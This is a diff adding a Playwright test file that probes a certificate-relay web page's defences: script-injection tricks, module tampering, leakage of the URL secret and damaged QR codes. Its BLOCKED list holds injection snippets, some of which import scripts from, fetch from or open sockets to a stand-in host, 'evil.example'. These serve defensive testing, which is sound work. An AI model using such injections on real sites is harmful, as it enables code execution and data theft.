@@ -1,0 +1,201 @@
+"""What a hostile peer, page or network tries on the page, and what it gets."""
+
+import threading
+from collections.abc import Callable, Iterator
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from certrelay.testkit.ca import Issued
+from tests.web_phone.components import ROOT
+from tests.web_phone.conftest import PASSWORD, write_files
+from tests.web_phone.pc import Pc
+from tests.web_phone.phone import Phone
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Route
+
+StartPc = Callable[..., tuple[Pc, str]]
+
+BLOCKED = {
+    "an inline script": """
+      const script = document.createElement("script");
+      script.append("window.ran = 1"); document.body.append(script);""",
+    "a script of another host": """
+      await import("https://evil.example/x.js"); window.ran = 1;""",
+    "a script under a data URL": """
+      await import("data:text/javascript,window.ran = 1"); window.ran = 1;""",
+    "text that becomes code": "setTimeout('window.ran = 1', 0);",
+    "markup from a text": "document.body.innerHTML = '<b>x</b>'; window.ran = 1;",
+    "a policy for markup": "trustedTypes.createPolicy('x', {}); window.ran = 1;",
+    "an event handler in markup": """
+      document.body.setAttribute("onclick", "window.ran = 1"); document.body.click();""",
+    "a request to another host": "await fetch('https://evil.example/'); window.ran = 1;",
+    "a socket to another host": "new WebSocket('wss://evil.example/').onopen = window.ran;",
+    "a picture of another host": "new Image().src = 'https://evil.example/x.png';",
+    "a form that is sent": """
+      const form = document.createElement("form");
+      form.method = "post"; document.body.append(form); form.submit();""",
+}
+
+
+@pytest.mark.attack(35, 36)
+@pytest.mark.parametrize("trick", BLOCKED)
+def test_the_policy_blocks(browser: "Browser", origin: str, trick: str) -> None:
+    page = browser.new_page()
+    page.goto(origin)
+    page.locator("main h1").wait_for()
+    page.evaluate(
+        "() => { window.violations = 0; document.addEventListener("
+        "'securitypolicyviolation', () => { window.violations += 1; }); }"
+    )
+    page.evaluate(f"async () => {{ try {{ {BLOCKED[trick]} }} catch {{ /* as it should */ }} }}")
+    page.wait_for_function("() => window.violations > 0")
+    assert page.evaluate("window.ran") is None
+    page.close()
+
+
+@pytest.mark.attack(35)
+@pytest.mark.parametrize("module", ["main.js", "core/frame.js", "vendor/crypto.js", "boot.js"])
+def test_a_module_that_was_changed_does_not_run(
+    browser: "Browser", origin: str, module: str
+) -> None:
+    page = browser.new_page()
+
+    def change(route: "Route") -> None:
+        response = route.fetch()
+        route.fulfill(response=response, body=response.text() + "\nwindow.ran = 1;")
+
+    page.route(f"**/{module}", change)
+    page.goto(origin)
+    assert page.evaluate("window.ran") is None
+    assert page.locator("#page h1").count() == 0
+    page.close()
+
+
+def test_a_browser_without_modules_is_told_so(browser: "Browser", origin: str) -> None:
+    page = browser.new_page()
+    page.route("**/main.js", lambda route: route.abort())
+    page.goto(origin)
+    page.locator("#too-old h1").wait_for()
+    assert "Safari 14" in page.locator("#too-old").inner_text()
+    page.close()
+
+
+@pytest.mark.attack(34)
+def test_the_secret_leaves_the_address_bar_before_anything_is_fetched(
+    phone: Phone, origin: str, start_pc: StartPc
+) -> None:
+    _, url = start_pc("import", origin)
+    phone.page.add_init_script(
+        """window.order = [];
+        const note = (owner, name) => {
+          const real = owner[name];
+          owner[name] = function (...given) {
+            window.order.push(name + (name === "replaceState" ? given[2] : ""));
+            return new.target ? new real(...given) : real.apply(this, given);
+          };
+        };
+        note(history, "replaceState"); note(window, "fetch");"""
+    )
+    phone.scan(url)
+    phone.is_at("이 휴대폰의 인증서가 PC로 나갑니다")
+    assert phone.page.url == origin
+    assert phone.page.evaluate("window.order") == ["replaceState/", "fetch"]
+    assert "#" not in phone.page.evaluate("document.URL + document.referrer")
+    assert phone.page.evaluate("history.length") == 2  # the empty tab, and one entry without it
+
+
+@pytest.mark.attack(7)
+def test_nothing_leaves_the_phone_without_the_typed_number(
+    phone: Phone, origin: str, start_pc: StartPc, issued: Issued, tmp_path: Path
+) -> None:
+    pc, url = start_pc("import", origin, "--yes")
+    phone.scan(url)
+    phone.sees("누가 전화나 채팅으로 시켰다면 사기입니다")
+    phone.pick(*write_files(issued.npki(PASSWORD), tmp_path / "phone"))
+    assert phone.page.get_by_role("button", name="다음: 인증번호 입력").is_disabled()
+    phone.unlock(PASSWORD)
+    phone.tap("다음: 인증번호 입력")
+    phone.sees("누가 전화나 채팅으로 불러 준 번호라면 사기입니다")
+    for typed in ("", "12345", "abcdef"):
+        phone.type_number(typed)
+        phone.sees("숫자 여섯 자리를 입력하세요")
+    phone.tap("그만두기")
+    assert pc.status() == 12
+    assert not any(event["event"] == "offer" for event in pc.seen)
+
+
+@pytest.mark.parametrize(
+    ("change", "text"),
+    [
+        (lambda url: url[:-1], "잘렸거나 잘못"),
+        (lambda url: url + "0", "잘렸거나 잘못"),
+        (lambda url: url.replace("#", "?x=1#"), "중계 서버 주소"),
+        (lambda url: url.partition("#")[0] + "#" + "9" * 158, "잘렸거나 잘못"),
+    ],
+)
+def test_a_damaged_code_is_refused_before_the_relay_is_asked(
+    phone: Phone, origin: str, start_pc: StartPc, change: Callable[[str], str], text: str
+) -> None:
+    _, url = start_pc("import", origin)
+    sockets: list[Any] = []
+    phone.page.on("websocket", lambda socket: sockets.append(socket.url))
+    phone.scan(change(url))
+    phone.sees(text)
+    assert sockets == []
+
+
+def test_a_code_scanned_in_an_open_page_starts_anew(
+    phone: Phone, origin: str, start_pc: StartPc
+) -> None:
+    phone.scan(origin)
+    phone.is_at("PC의 QR 코드를 찍어 주세요")
+    first, url = start_pc("import", origin)
+    phone.page.evaluate("(url) => { location.href = url; }", url)
+    phone.is_at("이 휴대폰의 인증서가 PC로 나갑니다")
+    _, other = start_pc("import", origin)
+    phone.page.evaluate("(url) => { location.href = url; }", other)
+    assert first.status() == 12
+    phone.is_at("이 휴대폰의 인증서가 PC로 나갑니다")
+
+
+class _Quiet(SimpleHTTPRequestHandler):
+    extensions_map = SimpleHTTPRequestHandler.extensions_map | {".mjs": "text/javascript"}
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+@pytest.fixture
+def sources() -> Iterator[str]:
+    """The project's own files over http, for what is tested inside a browser."""
+    handler = partial(_Quiet, directory=str(ROOT))
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_address[1]}/"
+        server.shutdown()
+        thread.join()
+
+
+def test_the_vectors_hold_in_the_browser_too(browser: "Browser", sources: str) -> None:
+    page = browser.new_page()
+    page.goto(f"{sources}tests/vectors/README.md")
+    failed = page.evaluate(
+        """async () => {
+          const {allChecks, FILES} = await import("/tests/web_phone/js/vector_checks.mjs");
+          const read = async (name) => [name, await (await fetch("/tests/vectors/" + name)).json()];
+          const checks = allChecks(Object.fromEntries(await Promise.all(FILES.map(read))));
+          const failed = checks.length === 251 ? [] : ["there are " + checks.length];
+          for (const [name, check] of checks) {
+            try { check(); } catch (error) { failed.push(name + ": " + error.message); }
+          }
+          return failed;
+        }"""
+    )
+    assert failed == []
+    page.close()
